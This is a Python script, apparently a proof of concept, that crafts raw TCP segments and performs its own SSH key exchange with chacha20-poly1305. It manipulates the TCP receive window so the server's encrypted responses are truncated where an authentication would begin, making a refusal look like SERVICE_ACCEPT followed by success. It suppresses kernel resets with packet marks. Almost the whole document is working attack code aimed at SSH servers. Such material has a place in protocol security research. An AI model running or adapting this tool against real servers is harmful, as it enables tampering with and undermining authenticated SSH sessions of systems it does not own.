"""Never logs in, but has the server's answers cut where a login would begin.

Address, port, own address, own port, what to do: `beginning`, `end`, `keys`, `steps` or `accept`. A TCP of its own, so that
the window is what it likes, under a key exchange (RFC 4253, RFC 8731) and chacha20-poly1305 of OpenSSH.
The kernel must not answer for the port: its resets are to be lost, but for those marked with 7.
"""

import hashlib
import os
import socket
import struct
import sys
import threading
import time

from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms
from cryptography.hazmat.primitives.poly1305 import Poly1305
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

ADDRESS, PORT, OWN, OWN_PORT, MODE = sys.argv[1:]
FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
CIPHER = b"chacha20-poly1305@openssh.com"
MARK = 7
# Sizes under that cipher: SERVICE_ACCEPT and a success.
ACCEPT, SUCCESS = 44, 28


class Tcp:
    def __init__(self):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, MARK)
        self.sequence = int.from_bytes(os.urandom(4), "big")
        self.expected = None
        self.window = 65535
        self.received = bytearray()
        self.news = threading.Condition()

    def send(self, flags, payload=b"", options=b""):
        header = struct.pack(
            "!HHIIBBHHH", int(OWN_PORT), int(PORT), self.sequence, self.expected or 0,
            (20 + len(options)) // 4 << 4, flags, self.window, 0, 0) + options
        pseudo = socket.inet_aton(OWN) + socket.inet_aton(ADDRESS) + struct.pack(
            "!HH", 6, len(header) + len(payload))
        text = pseudo + header + payload
        total = sum(struct.unpack(f"!{len(text + bytes(len(text) % 2)) // 2}H",
                                  text + bytes(len(text) % 2)))
        while total >> 16:
            total = (total & 0xFFFF) + (total >> 16)
        header = header[:16] + struct.pack("!H", ~total & 0xFFFF) + header[18:]
        self.socket.sendto(header + payload, (ADDRESS, 0))
        self.sequence = (self.sequence + len(payload) + (flags & SYN != 0)) & 0xFFFFFFFF

    def connect(self):
        threading.Thread(target=self.receive, daemon=True).start()
        self.send(SYN, options=struct.pack("!BBH", 2, 4, 1460))
        with self.news:
            assert self.news.wait_for(lambda: self.expected is not None, 10), "no SYN-ACK"
        self.send(ACK)

    def receive(self):
        while True:
            packet = self.socket.recv(65536)
            segment = packet[(packet[0] & 15) * 4:]
            source, destination, sequence, _, offset, flags = struct.unpack("!HHIIBB", segment[:14])
            if (source, destination) != (int(PORT), int(OWN_PORT)):
                continue
            with self.news:
                if flags & SYN and self.expected is None:
                    self.expected = (sequence + 1) & 0xFFFFFFFF
                payload = segment[(offset >> 4) * 4:]
                if payload and sequence == self.expected:
                    self.received += payload
                    self.expected = (self.expected + len(payload)) & 0xFFFFFFFF
                    # What may come next was said before.
                    if self.window < 65535:
                        self.window = max(0, self.window - len(payload))
                    self.send(ACK)
                elif payload:
                    self.send(ACK)
                self.news.notify_all()

    def wait(self, count):
        """So many bytes in all."""
        with self.news:
            assert self.news.wait_for(lambda: len(self.received) >= count, 10), \
                f"{len(self.received)} of {count} bytes"

    def line(self):
        with self.news:
            assert self.news.wait_for(lambda: b"\n" in self.received, 10), "no banner"
            return bytes(self.received.split(b"\n")[0] + b"\n")

    def open(self, window):
        with self.news:
            self.window = window
            self.send(ACK)


class Ssh:
    def __init__(self, tcp):
        self.tcp, self.number, self.key = tcp, 0, None
        self.at = 0

    def send(self, *payloads, window=None):
        """In one segment, after which the window is so far open."""
        text = b"".join(map(self.packet, payloads))
        with self.tcp.news:
            if window is not None:
                self.tcp.window = window
            self.tcp.send(PSH | ACK, text)

    def packet(self, payload):
        apart = 0 if self.key is None else 4
        padding = 4
        while (5 - apart + len(payload) + padding) % 8:
            padding += 1
        text = struct.pack("!IB", 1 + len(payload) + padding, padding) + payload + bytes(padding)
        number, self.number = struct.pack("!Q", self.number), self.number + 1
        if self.key is None:
            return text
        stream = lambda key, count: Cipher(
            algorithms.ChaCha20(key, struct.pack("<Q", count) + number), None).encryptor()
        text = stream(self.key[32:], 0).update(text[:4]) + stream(self.key[:32], 1).update(text[4:])
        tag = Poly1305(stream(self.key[:32], 0).update(bytes(32)))
        tag.update(text)
        return text + tag.finalize()

    def read(self):
        """A packet in clear text."""
        self.tcp.wait(self.at + 4)
        length = struct.unpack("!I", self.tcp.received[self.at:self.at + 4])[0]
        self.tcp.wait(self.at + 4 + length)
        text = bytes(self.tcp.received[self.at + 4:self.at + 4 + length])
        self.at += 4 + length
        return text[1:len(text) - text[0]]

    def exchange(self):
        own = b"SSH-2.0-window_1"
        with self.tcp.news:
            self.tcp.send(PSH | ACK, own + b"\r\n")
        banner = self.tcp.line()
        self.at = len(banner)
        lists = [b"curve25519-sha256", b"ssh-ed25519", CIPHER, CIPHER, b"hmac-sha2-256",
                 b"hmac-sha2-256", b"none", b"none", b"", b""]
        offer = b"\x14" + os.urandom(16) + b"".join(map(string, lists)) + bytes(5)
        self.send(offer)
        theirs = self.read()
        secret = X25519PrivateKey.generate()
        public = secret.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
        self.send(b"\x1e" + string(public))
        reply = self.read()
        host_key, rest = cut(reply[1:])
        point, _ = cut(rest)
        shared = secret.exchange(X25519PublicKey.from_public_bytes(point))
        shared = shared.lstrip(b"\0")
        shared = string((b"\0" if shared[0] & 0x80 else b"") + shared)
        text = b"".join(map(string, [own, banner.rstrip(b"\r\n"), offer, theirs, host_key, public,
                                     point]))
        digest = hashlib.sha256(text + shared).digest()
        first = hashlib.sha256(shared + digest + b"C" + digest).digest()
        key = first + hashlib.sha256(shared + digest + first).digest()
        assert self.read() == b"\x15", "no NEWKEYS"
        self.send(b"\x15")
        self.key = key


def string(text):
    return struct.pack("!I", len(text)) + text


def cut(text):
    length = struct.unpack("!I", text[:4])[0]
    return text[4:4 + length], text[4 + length:]


SERVICE = b"\x05" + string(b"ssh-userauth")
ATTEMPT = b"\x32" + string(b"nobody-here") + string(b"ssh-connection") + string(b"none")
IGNORE = b"\x02" + string(b"")
STRANGE = b"\x3a"

tcp = Tcp()
tcp.connect()
ssh = Ssh(tcp)
ssh.exchange()
start = ssh.at
if MODE == "accept":
    # Answers to what no server knows, cut so that SERVICE_ACCEPT seems to be first, and a success next.
    ssh.send(STRANGE, STRANGE, window=8)
    time.sleep(0.03)
    tcp.open(ACCEPT)
    tcp.wait(start + ACCEPT)
    ssh.send(IGNORE, window=65535)
    tcp.wait(start + ACCEPT + SUCCESS)
    print("cut at", len(tcp.received) - start, flush=True)
    time.sleep(0.3)
    tcp.send(RST | ACK)
    sys.exit()
ssh.send(SERVICE)
tcp.wait(start + ACCEPT)
ssh.send(ATTEMPT)
tcp.wait(start + ACCEPT + 1)
time.sleep(0.05)
refusal = len(tcp.received) - start - ACCEPT
print("refusal", refusal, flush=True)
before = len(tcp.received)
# A window becomes smaller only with a sequence number that is new, after a message that calls for nothing.
ssh.send(IGNORE)
# No answer finds room.
if MODE == "beginning":
    ssh.send(ATTEMPT, window=8)
    time.sleep(0.03)
    tcp.open(SUCCESS)
    tcp.wait(before + SUCCESS)
else:
    # What follows comes at once, as long as three kinds of host keys are.
    more = [] if MODE == "end" else [STRANGE] * 9 + [SERVICE] * 4
    # With a step more it called for nothing of late.
    ahead = [SERVICE] if MODE == "steps" else []
    ssh.send(*ahead, SERVICE, ATTEMPT, *more, window=8)
    time.sleep(0.03)
    for _ in ahead:
        tcp.open(ACCEPT)
        tcp.wait(before + ACCEPT)
        before += ACCEPT
        ssh.send(IGNORE, window=0)
        time.sleep(0.03)
    first = ACCEPT + refusal - SUCCESS
    tcp.open(first)
    tcp.wait(before + first)
    # It calls for nothing, and looks as if it did.
    ssh.send(IGNORE, window=65535 if MODE == "end" else SUCCESS)
    tcp.wait(before + first + SUCCESS)
print("cut at", len(tcp.received) - before, flush=True)
time.sleep(0.1)
ssh.send(IGNORE, window=65535)
time.sleep(0.3)
print("received", len(tcp.received) - before, flush=True)
# As if it went on.
ssh.send(STRANGE)
time.sleep(0.1)
tcp.send(RST | ACK)
